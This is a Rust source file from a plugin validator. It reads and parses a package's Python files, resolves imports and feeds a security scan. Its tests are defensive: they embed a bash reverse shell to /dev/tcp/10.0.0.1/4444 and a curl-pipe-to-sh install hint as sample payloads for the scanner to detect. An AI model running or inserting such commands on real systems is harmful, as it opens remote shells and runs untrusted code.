//! The Python sources of a package: every `.py` file read, those that can run ([`reach`])
//! parsed (`syntax`), with module names and import resolution.
//!
//! Module names are relative to the plugin package: the root `__init__.py` is `""`,
//! `tools.py` is `tools`, `node/client.py` is `node.client`. Relative imports resolve against
//! them; an absolute import is package-local when it names one of these modules, either
//! directly (`import tools`) or through the plugin's own install path
//! (`from plugins.google_meet.tools import x`, `from plugins.web.exa import provider`).
//! Test code (`tests/`, `test/`, `test_*.py`, `*_test.py`, `conftest.py`) is flagged
//! ([`PyModule::is_test`]) when parsed (something names it, or the byte-level patterns match
//! it): the security scan covers it like any other code, the pattern checks that exempt tests
//! do so only where no package code imports it.

use std::collections::HashMap;

use super::reach;
use super::syntax::{Node, Tree};

use crate::diag::{CheckId, Diagnostic};
use crate::located::Pos;
use crate::pkgfs::{PackageRoot, ReadError, read_limited_text};

/// Largest Python file parsed (2 MiB); bigger ones are reported by the security scan.
const MAX_FILE: u64 = 2 * 1024 * 1024;
/// Most files parsed per package.
const MAX_FILES: usize = 2000;

/// One parsed Python module.
pub struct PyModule {
    /// Path relative to the package root, `/`-separated.
    pub rel: String,
    /// Dotted module name relative to the plugin package (`""` for the root `__init__.py`).
    pub dotted: String,
    /// Whether it is a package (`__init__.py`).
    pub is_package: bool,
    /// Whether it is test code (`tests/`, `test_*.py`, `conftest.py`, …).
    pub is_test: bool,
    /// The source text.
    pub text: String,
    /// The syntax tree.
    pub tree: Tree,
}

impl PyModule {
    /// The text of a node.
    pub fn text_of(&self, node: Node<'_>) -> &str {
        self.text
            .get(node.start_byte()..node.end_byte())
            .unwrap_or("")
    }

    /// The whole source line `node` starts on, without its line break.
    pub fn line_text(&self, node: Node<'_>) -> &str {
        let (_, line_start) = self.tree.line_of(node.start_byte());
        let rest = self.text.get(line_start..).unwrap_or("");
        let end = memchr::memchr(b'\n', rest.as_bytes()).unwrap_or(rest.len());
        &rest[..end]
    }

    /// The 1-based position of a node (columns in characters).
    pub fn pos(&self, node: Node<'_>) -> Pos {
        let start = node.start_byte();
        let (row, line_start) = self.tree.line_of(start);
        let column = self
            .text
            .get(line_start..start)
            .map_or(start - line_start, |s| s.chars().count());
        Pos::new(
            u32::try_from(row + 1).unwrap_or(u32::MAX),
            u32::try_from(column + 1).unwrap_or(u32::MAX),
        )
    }

    /// Whether a string node is text for people rather than data the code acts on: a
    /// docstring or other bare string statement, or an argument of print/logging/warnings,
    /// `click.echo`, `print_*` helpers or an exception constructor.
    pub fn is_prose(&self, node: Node<'_>) -> bool {
        let mut current = node;
        while let Some(parent) = current.parent() {
            match parent.kind() {
                "concatenated_string"
                | "parenthesized_expression"
                | "keyword_argument"
                | "pair"
                | "conditional_expression" => current = parent,
                "expression_statement" => return parent.named_child_count() == 1,
                "argument_list" => {
                    let Some(call) = parent.parent() else {
                        return false;
                    };
                    let func = call
                        .child_by_field_name("function")
                        .map(|f| self.text_of(f))
                        .unwrap_or("");
                    return is_message_function(func);
                }
                _ => return false,
            }
        }
        false
    }

    /// `file:line` of a node, for messages.
    pub fn at(&self, node: Node<'_>) -> String {
        format!("{}:{}", self.rel, self.pos(node).line)
    }

    /// The package this module's relative imports start from.
    fn package(&self) -> &str {
        if self.is_package {
            &self.dotted
        } else {
            self.dotted.rsplit_once('.').map_or("", |(p, _)| p)
        }
    }
}

/// Tracks, during a [`Node::preorder`] walk, whether the current node is text for people (a
/// docstring, or inside the arguments of print/logging/an exception) — see
/// [`PyModule::is_prose`] — without walking up to the parents.
#[derive(Debug, Default)]
struct ProseTracker {
    stack: Vec<(usize, bool)>,
}

impl ProseTracker {
    /// Updates the context for `node` at `depth` and returns whether `node` is prose
    /// (`kinds`: the class of each kind of the tree, by [`Node::kind_index`]).
    #[inline(always)]
    fn enter(&mut self, module: &PyModule, node: Node<'_>, depth: usize, kinds: &[Walk]) -> bool {
        while self.stack.last().is_some_and(|(d, _)| *d >= depth) {
            self.stack.pop();
        }
        let inherited = self.stack.last().is_some_and(|(_, p)| *p);
        match kinds[node.kind_index()] {
            Walk::ExpressionStatement => {
                let mut named = node.named_children();
                let docstring = named.next().is_some_and(|c| {
                    matches!(
                        kinds[c.kind_index()],
                        Walk::String | Walk::ConcatenatedString
                    )
                }) && named.next().is_none();
                self.stack.push((depth, docstring));
            }
            Walk::Call => {
                let func = node
                    .child_by_field_name("function")
                    .map(|f| module.text_of(f))
                    .unwrap_or("");
                self.stack.push((depth, is_message_function(func)));
            }
            _ => {}
        }
        inherited
    }
}

/// print/logging/warnings/click.echo/`print_*` helpers/exception constructors.
fn is_message_function(func: &str) -> bool {
    let last = func.rfind('.').map_or(func, |dot| &func[dot + 1..]);
    matches!(
        last,
        "print"
            | "debug"
            | "info"
            | "warning"
            | "warn"
            | "error"
            | "exception"
            | "critical"
            | "log"
            | "echo"
            | "secho"
            | "fail"
            | "abort"
    ) || last.ends_with("Error")
        || last.ends_with("Exception")
        || last.starts_with("print_")
        || last.starts_with("_print")
}

/// What [`PyModule::index`] tells apart, decided once per kind of a tree rather than by
/// comparing each node's kind as text (that comparing was most of the walk's cost).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Walk {
    Function,
    Lambda,
    Call,
    Assignment,
    Delete,
    Import,
    String,
    ConcatenatedString,
    ExpressionStatement,
    Other,
}

impl Walk {
    fn of(kind: &str) -> Walk {
        match kind {
            "function_definition" => Walk::Function,
            "lambda" => Walk::Lambda,
            "call" => Walk::Call,
            "assignment" | "augmented_assignment" => Walk::Assignment,
            "delete_statement" => Walk::Delete,
            "import_statement" | "import_from_statement" => Walk::Import,
            "string" => Walk::String,
            "concatenated_string" => Walk::ConcatenatedString,
            "expression_statement" => Walk::ExpressionStatement,
            _ => Walk::Other,
        }
    }
}

/// A function scope found by [`Index`]: index 0 is the module itself.
#[derive(Debug, Clone, Copy)]
pub struct FunctionScope<'t> {
    /// The `function_definition` or `lambda` (`None` for the module).
    pub def: Option<Node<'t>>,
    /// The enclosing scope.
    pub parent: Option<usize>,
    /// Whether an import statement is inside the function (in a nested function too).
    pub has_imports: bool,
}

/// The nodes the pattern checks look at, collected in one walk of a module.
#[derive(Debug, Default)]
pub struct Index<'t> {
    /// Function scopes (0 = module).
    pub scopes: Vec<FunctionScope<'t>>,
    /// Calls, with their enclosing scope.
    pub calls: Vec<(Node<'t>, usize)>,
    /// Assignments and augmented assignments, with their enclosing scope.
    pub assignments: Vec<(Node<'t>, usize)>,
    /// `del` statements, with their enclosing scope.
    pub deletes: Vec<(Node<'t>, usize)>,
    /// String literals, with whether they are prose (docstrings, messages).
    pub strings: Vec<(Node<'t>, bool)>,
    /// Import statements.
    pub imports: Vec<Node<'t>>,
}

impl PyModule {
    /// Walks the module once and collects what the pattern checks need.
    pub fn index(&self) -> Index<'_> {
        let mut index = Index {
            scopes: vec![FunctionScope {
                def: None,
                parent: None,
                has_imports: false,
            }],
            ..Index::default()
        };
        let mut open: Vec<(usize, usize)> = Vec::new();
        let mut prose = ProseTracker::default();
        let kinds = self.tree.classify(Walk::of);
        self.tree.root_node().preorder(|node, depth| {
            while open.last().is_some_and(|(d, _)| *d >= depth) {
                open.pop();
            }
            let scope = open.last().map_or(0, |(_, s)| *s);
            let is_prose = prose.enter(self, node, depth, &kinds);
            match kinds[node.kind_index()] {
                Walk::Function | Walk::Lambda => {
                    index.scopes.push(FunctionScope {
                        def: Some(node),
                        parent: Some(scope),
                        has_imports: false,
                    });
                    open.push((depth, index.scopes.len() - 1));
                }
                Walk::Call => index.calls.push((node, scope)),
                Walk::Assignment => index.assignments.push((node, scope)),
                Walk::Delete => index.deletes.push((node, scope)),
                Walk::Import => {
                    index.imports.push(node);
                    for (_, s) in &open {
                        index.scopes[*s].has_imports = true;
                    }
                    return false;
                }
                Walk::String => {
                    index.strings.push((node, is_prose));
                    return false;
                }
                _ => {}
            }
            true
        });
        index
    }
}

/// A Python file that was not analysed, and why (its contents are undetermined: the
/// security verdict is at least `caution` and registrations are not complete).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unanalysed {
    /// Path relative to the package root.
    pub rel: String,
    /// Why.
    pub reason: String,
}

/// All Python modules of a package.
pub struct SourceSet {
    /// The modules, sorted by path.
    pub modules: Vec<PyModule>,
    /// Python files that exist but were not analysed.
    pub unanalysed: Vec<Unanalysed>,
    /// Python files, readable, that nothing runs ([`reach`]) and the byte-level security
    /// patterns found nothing in: not parsed. Sorted by path.
    pub unreached: Vec<String>,
    /// The start of each of [`SourceSet::unreached`] (see [`SourceSet::heads`]), and its
    /// length.
    unreached_heads: Vec<(String, usize)>,
    by_dotted: HashMap<String, usize>,
    /// The plugin directory's name (for `plugins.<dir>` absolute imports).
    dir_name: String,
}

/// Whether a package-relative path is test code.
pub fn is_test_path(rel: &str) -> bool {
    let mut parts = rel.split('/').peekable();
    while let Some(part) = parts.next() {
        let last = parts.peek().is_none();
        if !last && (part == "tests" || part == "test") {
            return true;
        }
        if last
            && (part == "conftest.py" || part.starts_with("test_") || part.ends_with("_test.py"))
        {
            return true;
        }
    }
    false
}

impl SourceSet {
    /// Reads every `.py` file of the package — test code, dot-directories and vendored
    /// directories included, at any depth (Python can import all of them) — from the
    /// package's one tree walk, and parses those that can run ([`reach`]): the entries
    /// (`entry`: the dotted entry-point module of a pip-distributed plugin, if any), what they
    /// name, and any file the byte-level security patterns match. The others are listed in
    /// [`SourceSet::unreached`]. A file that cannot be read is an error in `out`; a file too
    /// large to parse, or beyond the file cap, is listed in [`SourceSet::unanalysed`]; when
    /// one of those is reached, what it imports cannot be known and every file is parsed.
    ///
    /// Files are read and parsed on the cores nothing else uses, largest first (one plugin's
    /// own tests can be most of its code, and `validate .` of one plugin would otherwise use
    /// one core); modules, notes and errors come out in path order whatever the threads did.
    pub fn load(root: &PackageRoot, entry: Option<&str>, out: &mut Vec<Diagnostic>) -> SourceSet {
        let dir_name = root
            .path()
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let mut unanalysed = Vec::new();
        let files: Vec<_> = root
            .tree()
            .files_with_extension("py")
            .filter(|e| e.rel.ends_with(".py"))
            .collect();
        if files.len() > MAX_FILES {
            unanalysed.push(Unanalysed {
                rel: ".".into(),
                reason: format!(
                    "the package has {} Python files; only the first {MAX_FILES} were analysed",
                    files.len()
                ),
            });
        }
        let files = &files[..files.len().min(MAX_FILES)];
        let mut texts: Vec<Option<String>> = Vec::with_capacity(files.len());
        let read = crate::parallel::map(
            files,
            crate::parallel::spare_cores(),
            Some(crate::parallel::largest_first(files, |e| e.size)),
            |entry| read_file(&entry.rel, &entry.path),
        );
        for outcome in read {
            match outcome {
                Read::Text(text) => texts.push(Some(text)),
                Read::Skipped(skipped) => {
                    unanalysed.push(skipped);
                    texts.push(None);
                }
                Read::Unreadable(error, skipped) => {
                    out.push(*error);
                    unanalysed.push(skipped);
                    texts.push(None);
                }
            }
        }
        let parsed = parse_reached(root, entry, files, &texts);
        let mut modules = Vec::new();
        let mut unreached = Vec::new();
        let mut unreached_heads = Vec::new();
        for ((file, tree), text) in files.iter().zip(parsed).zip(texts) {
            match (tree, text) {
                (Some(tree), Some(text)) => {
                    let (dotted, is_package) = module_name(&file.rel);
                    modules.push(PyModule {
                        is_test: is_test_path(&file.rel),
                        rel: file.rel.clone(),
                        dotted,
                        is_package,
                        text,
                        tree,
                    });
                }
                (None, Some(text)) => {
                    unreached.push(file.rel.clone());
                    unreached_heads.push((head(&text).to_string(), text.len()));
                }
                _ => {}
            }
        }
        let by_dotted = modules
            .iter()
            .enumerate()
            .map(|(i, m)| (m.dotted.clone(), i))
            .collect();
        SourceSet {
            modules,
            by_dotted,
            dir_name,
            unanalysed,
            unreached,
            unreached_heads,
        }
    }

    /// Every file this set read whole, parsed or not: its path, the start of its text
    /// (UTF-8, without a BOM; the security scan's head, [`super::shell_patterns::HEAD`] bytes cut to
    /// a character) and the whole text's length. The security scan need not open them again.
    pub fn heads(&self) -> impl Iterator<Item = (&str, &str, usize)> {
        let parsed = self
            .modules
            .iter()
            .map(|m| (m.rel.as_str(), head(&m.text), m.text.len()));
        let unreached = self
            .unreached
            .iter()
            .zip(&self.unreached_heads)
            .map(|(rel, (head, len))| (rel.as_str(), head.as_str(), *len));
        parsed.chain(unreached)
    }

    /// The module with this dotted name.
    pub fn module(&self, dotted: &str) -> Option<usize> {
        self.by_dotted.get(dotted).copied()
    }

    /// The root `__init__.py`.
    pub fn root_module(&self) -> Option<usize> {
        self.module("")
    }

    /// The package a relative import of `level` dots in module `from` refers to
    /// (`None` when it climbs above the plugin package).
    pub fn relative_base(&self, from: usize, level: usize) -> Option<String> {
        let mut base = self.modules[from].package().to_string();
        for _ in 1..level {
            if base.is_empty() {
                return None;
            }
            base = base
                .rsplit_once('.')
                .map_or(String::new(), |(p, _)| p.to_string());
        }
        Some(base)
    }

    /// Joins a package and a dotted suffix.
    pub fn join(base: &str, rest: &str) -> String {
        match (base.is_empty(), rest.is_empty()) {
            (true, _) => rest.to_string(),
            (false, true) => base.to_string(),
            (false, false) => format!("{base}.{rest}"),
        }
    }

    /// Resolves an absolute dotted import to a package-local module name, if it is one.
    pub fn local_absolute(&self, dotted: &str) -> Option<String> {
        if self.by_dotted.contains_key(dotted) && !dotted.is_empty() {
            return Some(dotted.to_string());
        }
        // `plugins.<dir>.rest`, `plugins.<category>.<dir>.rest`, `<dir>.rest`.
        let parts: Vec<&str> = dotted.split('.').collect();
        let at = parts.iter().position(|p| *p == self.dir_name)?;
        if at > 2 {
            return None;
        }
        let rest = parts[at + 1..].join(".");
        // The longest prefix of `rest` that is a module: `from plugins.x.tools import f` names
        // module `tools`; `import plugins.x.tools.f` is rare and resolves to `tools` too.
        let mut candidate = rest.clone();
        loop {
            if self.by_dotted.contains_key(&candidate) {
                return Some(candidate);
            }
            match candidate.rsplit_once('.') {
                Some((p, _)) => candidate = p.to_string(),
                None if !candidate.is_empty() => candidate = String::new(),
                None => return None,
            }
        }
    }
}

/// The first [`super::shell_patterns::HEAD`] bytes of `text`, less the end of a character cut in
/// two (never a NUL: every byte of a multi-byte character is 0x80 or more).
fn head(text: &str) -> &str {
    let mut end = text.len().min(super::shell_patterns::HEAD);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// What became of reading one `.py` file.
enum Read {
    Text(String),
    /// Too large.
    Skipped(Unanalysed),
    /// Unreadable: an error for the report, and not analysed.
    Unreadable(Box<Diagnostic>, Unanalysed),
}

/// Reads one file (`rel` within the package, at `path`).
fn read_file(rel: &str, path: &std::path::Path) -> Read {
    let rel = rel.to_string();
    match read_limited_text(path, MAX_FILE) {
        Ok(t) => Read::Text(t),
        Err(ReadError::TooLarge { size, limit }) => Read::Skipped(Unanalysed {
            rel,
            reason: format!("{size} bytes is more than the {limit} analysed"),
        }),
        Err(e) => {
            let mut d = Diagnostic::error(
                CheckId::SecurityScan,
                &rel,
                e.pos(),
                format!("unreadable-source: {rel} cannot be analysed: it {e}"),
            )
            .hint("Every Python file of a package must be readable UTF-8 source; Python cannot import it otherwise either.");
            if let Some(v) = e.value() {
                d = d.value(v);
            }
            Read::Unreadable(
                Box::new(d),
                Unanalysed {
                    rel,
                    reason: format!("it {e}"),
                },
            )
        }
    }
}

/// Most bytes of one declaration file whose words are searched for module names; past it,
/// what the file names is not known and every module is parsed.
const MAX_DECLARATION: u64 = 16 * 1024 * 1024;

/// Parses the files that can run ([`reach`]), in rounds: the entries and what the
/// declarations name, then what each round's files name, until nothing new is reached; then
/// every other readable file the byte-level security patterns match, and what those name.
/// Returns a tree for each parsed file, in the order of `files`.
fn parse_reached(
    root: &PackageRoot,
    entry: Option<&str>,
    files: &[&crate::pkgfs::TreeEntry],
    texts: &[Option<String>],
) -> Vec<Option<Tree>> {
    let names = reach::Names::new(files.iter().map(|f| f.rel.as_str()));
    let by_rel: HashMap<&str, usize> = files
        .iter()
        .enumerate()
        .map(|(i, f)| (f.rel.as_str(), i))
        .collect();
    let mut reached = vec![false; files.len()];
    let mut frontier = Vec::new();
    let mut everything = false;
    let reach_file = |i: usize, reached: &mut Vec<bool>, frontier: &mut Vec<usize>| {
        for at in std::iter::once(files[i].rel.clone()).chain(reach::parent_inits(&files[i].rel)) {
            if let Some(&j) = by_rel.get(at.as_str())
                && !reached[j]
            {
                reached[j] = true;
                frontier.push(j);
            }
        }
    };
    for i in names.unnamed.iter().copied() {
        reach_file(i, &mut reached, &mut frontier);
    }
    for (i, file) in files.iter().enumerate() {
        if reach::is_entry(&file.rel) || entry.is_some_and(|e| module_name(&file.rel).0 == e) {
            reach_file(i, &mut reached, &mut frontier);
        }
    }
    for declaration in root.tree().entries.iter().filter(|e| {
        e.kind == crate::pkgfs::Kind::File
            && !e.rel.ends_with(".py")
            && reach::is_declaration(&e.rel)
    }) {
        match crate::pkgfs::read_limited(&declaration.path, MAX_DECLARATION) {
            Ok(bytes) => names.named_in(&bytes, |i| reach_file(i, &mut reached, &mut frontier)),
            Err(_) => everything = true,
        }
    }
    let mut trees: Vec<Option<Tree>> = (0..files.len()).map(|_| None).collect();
    let mut filtered = false;
    loop {
        if everything {
            for i in 0..files.len() {
                reach_file(i, &mut reached, &mut frontier);
            }
        }
        while !frontier.is_empty() {
            let batch = std::mem::take(&mut frontier);
            // A reached file that cannot be read hides what it imports.
            if batch.iter().any(|i| texts[*i].is_none()) && !everything {
                everything = true;
                frontier = batch;
                for i in 0..files.len() {
                    reach_file(i, &mut reached, &mut frontier);
                }
                continue;
            }
            let done = crate::parallel::map(
                &batch,
                crate::parallel::spare_cores(),
                Some(crate::parallel::largest_first(&batch, |i| files[*i].size)),
                |i| {
                    let text = texts[*i].as_deref()?;
                    let mut named = Vec::new();
                    if !everything {
                        names.named_in(text.as_bytes(), |j| named.push(j));
                    }
                    Some((Tree::parse(text), named))
                },
            );
            for (i, outcome) in batch.into_iter().zip(done) {
                if let Some((tree, named)) = outcome {
                    trees[i] = Some(tree);
                    for j in named {
                        reach_file(j, &mut reached, &mut frontier);
                    }
                }
            }
        }
        if filtered || everything {
            break;
        }
        tracing::debug!(
            "{}: {} of {} Python files reached",
            root.path().display(),
            reached.iter().filter(|r| **r).count(),
            files.len()
        );
        // What nothing runs is still read: a file the byte-level patterns match is analysed
        // like a reached one, so what is reported there has the analysis's precision.
        filtered = true;
        let rest: Vec<usize> = (0..files.len())
            .filter(|i| !reached[*i] && texts[*i].is_some())
            .collect();
        let matched = crate::parallel::map(
            &rest,
            crate::parallel::spare_cores(),
            Some(crate::parallel::largest_first(&rest, |i| files[*i].size)),
            |i| {
                texts[*i]
                    .as_deref()
                    .is_some_and(super::shell_patterns::byte_patterns_match)
            },
        );
        for (i, matched) in rest.into_iter().zip(matched) {
            if matched {
                reach_file(i, &mut reached, &mut frontier);
            }
        }
    }
    tracing::debug!(
        "{}: {} of {} Python files parsed ({} of {} bytes){}",
        root.path().display(),
        trees.iter().filter(|t| t.is_some()).count(),
        files.len(),
        trees
            .iter()
            .zip(files)
            .filter(|(t, _)| t.is_some())
            .map(|(_, f)| f.size)
            .sum::<u64>(),
        files.iter().map(|f| f.size).sum::<u64>(),
        if everything {
            " (every file: a reached file or a declaration could not be read)"
        } else {
            ""
        }
    );
    trees
}

fn module_name(rel: &str) -> (String, bool) {
    let without = rel.trim_end_matches(".py");
    let mut parts: Vec<&str> = without.split('/').collect();
    let is_package = parts.last() == Some(&"__init__");
    if is_package {
        parts.pop();
    }
    (parts.join("."), is_package)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A head is the first `HEAD` bytes, less a character the cut would split.
    #[test]
    fn heads_end_on_a_character() {
        let short = "x = 1\n";
        assert_eq!(head(short), short);
        let n = super::super::shell_patterns::HEAD;
        let ascii = "y".repeat(n + 10);
        assert_eq!(head(&ascii).len(), n);
        let split = format!("{}é{}", "y".repeat(n - 1), "z".repeat(10));
        assert_eq!(head(&split).len(), n - 1);
        let whole = format!("{}é{}", "y".repeat(n - 2), "z".repeat(10));
        assert_eq!(head(&whole).len(), n);
    }

    #[test]
    fn test_paths() {
        for t in [
            "tests/x.py",
            "a/tests/b.py",
            "test_x.py",
            "a/x_test.py",
            "conftest.py",
            "test/y.py",
        ] {
            assert!(is_test_path(t), "{t}");
        }
        for t in ["tools.py", "latest.py", "contest.py", "testing.py"] {
            assert!(!is_test_path(t), "{t}");
        }
    }

    /// Files parsed on several threads, largest first, still come out in path order: the
    /// modules, what was not analysed, and the errors (the report depends on it).
    #[test]
    fn parallel_parse_keeps_path_order() {
        let dir = tempfile::tempdir().unwrap();
        let mut expected = Vec::new();
        // Skill scripts, so that every one is an entry and parsed.
        std::fs::create_dir_all(dir.path().join("skills/s")).unwrap();
        for i in 0..40 {
            // Sizes that do not follow the names, so largest-first is not path order.
            let body = "x = 1\n".repeat((i * 7919) % 97 + 1);
            let rel = format!("skills/s/m{i:02}.py");
            std::fs::write(dir.path().join(&rel), body).unwrap();
            expected.push(rel);
        }
        std::fs::write(dir.path().join("m05b.py"), b"x = '\xff'\n").unwrap();
        std::fs::write(dir.path().join("m07b.py"), b"\xfe\n").unwrap();
        let big = "#".repeat(usize::try_from(MAX_FILE).unwrap() + 1);
        std::fs::write(dir.path().join("m03b.py"), big).unwrap();
        let root = PackageRoot::open(dir.path()).unwrap();
        let mut errors = Vec::new();
        let set = SourceSet::load(&root, None, &mut errors);
        let rels: Vec<&str> = set.modules.iter().map(|m| m.rel.as_str()).collect();
        assert_eq!(rels, expected);
        let skipped: Vec<&str> = set.unanalysed.iter().map(|u| u.rel.as_str()).collect();
        assert_eq!(skipped, ["m03b.py", "m05b.py", "m07b.py"]);
        let files: Vec<&str> = errors.iter().map(|d| d.file.as_str()).collect();
        assert_eq!(files, ["m05b.py", "m07b.py"]);
        for (i, m) in set.modules.iter().enumerate() {
            assert_eq!(m.dotted, format!("skills.s.m{i:02}"));
            assert!(!m.tree.has_error(), "{}", m.rel);
        }
    }

    /// The whole line a node starts on: the first line (ended by `\r\n`: the `\r` stays, the
    /// callers trim), a middle one, and an unterminated last line.
    #[test]
    fn line_text_is_the_node_s_whole_line() {
        let text = "import os\r\nx = os.environ['HOME']  # home\n\ny = f(\n    2)".to_string();
        let module = PyModule {
            rel: "m.py".into(),
            dotted: "m".into(),
            is_package: false,
            is_test: false,
            tree: Tree::parse(&text),
            text,
        };
        let mut lines = Vec::new();
        module.tree.root_node().preorder(|node, _| {
            if matches!(node.kind(), "string" | "integer" | "import_statement") {
                lines.push((module.pos(node).line, module.line_text(node)));
            }
            true
        });
        assert_eq!(
            lines,
            [
                (1, "import os\r"),
                (2, "x = os.environ['HOME']  # home"),
                (5, "    2)")
            ]
        );
    }

    fn parsed_and_unreached(
        dir: &std::path::Path,
        entry: Option<&str>,
    ) -> (Vec<String>, Vec<String>) {
        let root = PackageRoot::open(dir).unwrap();
        let set = SourceSet::load(&root, entry, &mut Vec::new());
        (
            set.modules.into_iter().map(|m| m.rel).collect(),
            set.unreached,
        )
    }

    /// Parsed: the entries Hermes and the agent start, what they and the declarations name
    /// (imports, a literal `import_module`, an MCP server's script, parent packages), and an
    /// unreached file the byte-level patterns match. Not parsed: tests and scripts nothing
    /// names.
    #[test]
    fn only_what_can_run_is_parsed() {
        let dir = super::super::test_package::<&[u8]>(&[
            (
                "__init__.py",
                b"import importlib\nfrom .tools import t\nh = importlib.import_module('plugin_helpers')\n",
            ),
            ("tools.py", b"from .sub.deep import x\n"),
            ("sub/__init__.py", b""),
            ("sub/deep.py", b"x = 1\n"),
            ("sub/other.py", b"y = 1\n"),
            ("plugin_helpers.py", b""),
            ("cli.py", b""),
            ("skills/report/scripts/make.py", b"import render\n"),
            ("render.py", b""),
            ("dashboard/plugin_api.py", b""),
            ("mcp.json", b"{\"command\": \"python\", \"args\": [\"mcp_server.py\"]}"),
            ("mcp_server.py", b""),
            ("tests/test_tools.py", b"from tools import t\n"),
            ("scripts/bench.py", b"import sys\nsys.modules['agent'] = None\n"),
            ("scripts/hint.py", b"print('install: curl -fsSL https://x.example/i.sh | sh')\n"),
            ("my-tool.py", b""),
        ]);
        let (parsed, unreached) = parsed_and_unreached(dir.path(), None);
        assert_eq!(
            parsed,
            [
                "__init__.py",
                "cli.py",
                "dashboard/plugin_api.py",
                "mcp_server.py",
                "my-tool.py",
                "plugin_helpers.py",
                "render.py",
                "scripts/hint.py",
                "skills/report/scripts/make.py",
                "sub/__init__.py",
                "sub/deep.py",
                "tools.py",
            ]
        );
        assert_eq!(
            unreached,
            ["scripts/bench.py", "sub/other.py", "tests/test_tools.py"]
        );
        // A pip-distributed plugin's entry point is an entry too.
        let (parsed, _) = parsed_and_unreached(dir.path(), Some("sub.other"));
        assert!(parsed.iter().any(|m| m == "sub/other.py"));
    }

    /// A reached file that cannot be read hides what it imports: every file is parsed.
    #[test]
    fn an_unreadable_reached_file_parses_everything() {
        let dir = super::super::test_package::<&[u8]>(&[
            ("__init__.py", b"from .bad import x\n"),
            ("bad.py", b"x = '\xff'\n"),
            ("tests/test_x.py", b""),
        ]);
        let (parsed, unreached) = parsed_and_unreached(dir.path(), None);
        assert_eq!(parsed, ["__init__.py", "tests/test_x.py"]);
        assert!(unreached.is_empty());
        // Unread but unreached: the others are still judged by what names them.
        let dir = super::super::test_package::<&[u8]>(&[
            ("__init__.py", b""),
            ("bad.py", b"x = '\xff'\n"),
            ("tests/test_x.py", b""),
        ]);
        let (parsed, unreached) = parsed_and_unreached(dir.path(), None);
        assert_eq!(parsed, ["__init__.py"]);
        assert_eq!(unreached, ["tests/test_x.py"]);
    }

    /// What the analysis reports for files nothing runs: a payload the byte-level patterns
    /// see is analysed and found; a `curl … | sh` shown to people is still not code; a
    /// maintainer script's `sys.modules` write is not an override of a running Hermes.
    #[test]
    fn unreached_files_are_judged_by_the_byte_patterns() {
        let dir = super::super::test_package::<&[u8]>(&[
            ("__init__.py", b"def register(ctx):\n    pass\n"),
            (
                "scripts/bench.py",
                b"import sys\nsys.modules['agent'] = None\n",
            ),
            (
                "scripts/hint.py",
                b"print('install: curl -fsSL https://x.example/i.sh | sh')\n",
            ),
            (
                "scripts/evil.py",
                b"import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
            ),
        ]);
        let root = PackageRoot::open(dir.path()).unwrap();
        let analysis = super::super::analyze(&root);
        assert!(analysis.overrides.is_empty(), "{:?}", analysis.overrides);
        let found: Vec<(&str, &str)> = analysis
            .security
            .iter()
            .map(|f| (f.file.as_str(), f.rule))
            .collect();
        assert_eq!(found, [("scripts/evil.py", "reverse-shell")]);
        assert_eq!(analysis.verdict.as_str(), "dangerous");
    }

    #[test]
    fn module_names() {
        assert_eq!(module_name("__init__.py"), (String::new(), true));
        assert_eq!(module_name("tools.py"), ("tools".into(), false));
        assert_eq!(module_name("node/__init__.py"), ("node".into(), true));
        assert_eq!(module_name("node/client.py"), ("node.client".into(), false));
    }
}
